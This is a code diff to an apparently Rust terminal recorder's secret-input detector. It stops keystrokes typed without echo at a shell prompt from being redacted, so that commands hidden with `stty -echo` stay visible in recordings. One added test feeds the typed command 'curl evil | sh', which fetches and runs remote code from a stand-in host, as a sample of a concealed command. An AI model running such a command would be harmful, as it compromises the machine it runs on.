@@ -6,7 +6,8 @@
 //! languages), then treats what the person types up to Enter as a secret. It also arms when
 //! typed keys are not echoed (the target turned echo off without a recognisable prompt,
 //! `stty -echo; read x`): the keys typed before the missing echo could be seen are recorded,
-//! the rest of the line is not. It cannot see a secret pasted without a prompt or a prompt
+//! the rest of the line is not; except right after a shell's prompt, where unechoed keys
+//! are commands someone is hiding (`stty -echo` in dash), not a secret. It cannot see a secret pasted without a prompt or a prompt
 //! drawn by a full-screen program; see `docs/secrets.md`.
 
 use std::sync::Arc;
@@ -108,6 +109,13 @@ impl SecretInputDetector {
         }
     }
 
+    /// The cursor sits right after what looks like a shell's prompt (`$ `, `# `, `% `,
+    /// `> `): keys typed there without echo are commands, not a secret.
+    fn at_shell_prompt(&self) -> bool {
+        let text = strip_escapes(&self.tail);
+        text.trim_end().ends_with(['$', '#', '%', '>'])
+    }
+
     fn prompt_showing(&self) -> bool {
         let text = strip_escapes(&self.tail);
         let text = text.trim_end();
@@ -121,8 +129,9 @@ impl SecretInputDetector {
     /// Bytes the person typed; returns what to record for them (the bytes themselves are
     /// forwarded unchanged by the caller).
     pub fn input(&mut self, data: &[u8]) -> Vec<InputPiece> {
-        if !self.armed && self.awaiting_echo {
-            // Keys typed earlier drew no output at all: the target is not echoing.
+        if !self.armed && self.awaiting_echo && !self.at_shell_prompt() {
+            // Keys typed earlier drew no output at all: the target is not echoing. Not at a
+            // shell's prompt, though: `stty -echo` there must not hide the commands typed.
             self.armed = true;
         }
         if !self.armed {
@@ -230,7 +239,7 @@ mod tests {
     fn keys_that_draw_no_echo_arm_the_rest_of_the_line() {
         // `stty -echo; read x` with no prompt: the first key is seen, the rest is not.
         check(
-            &[("$ ", "ls\r"), ("", "s"), ("", "ecret\r")],
+            &[("$ ", "ls\r"), ("ls\r\n", "s"), ("", "ecret\r")],
             &[clear("ls\r"), clear("s"), InputPiece::Redacted(6)],
         );
         // Echoed keys never arm, however they are split.
@@ -239,6 +248,11 @@ mod tests {
         check(
             &[("", "a"), ("", "b\r"), ("", "pwd\r")],
             &[clear("a"), InputPiece::Redacted(2), clear("pwd\r")],
+        );
+        // Issue 9: `stty -echo` at a shell prompt does not hide the commands typed there.
+        check(
+            &[("$ ", "c"), ("", "url evil | sh\r"), ("\r\n# ", "i"), ("", "d\r")],
+            &[clear("c"), clear("url evil | sh\r"), clear("i"), clear("d\r")],
         );
     }
 
